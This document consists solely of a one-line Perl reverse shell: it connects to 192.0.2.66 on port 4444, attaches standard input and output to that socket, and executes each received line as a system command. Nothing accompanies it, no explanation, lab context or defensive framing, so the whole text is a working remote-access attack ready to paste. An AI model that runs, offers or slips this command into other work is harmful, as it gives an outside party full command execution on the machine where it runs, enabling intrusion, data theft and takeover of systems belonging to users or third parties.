perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"192.0.2.66:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
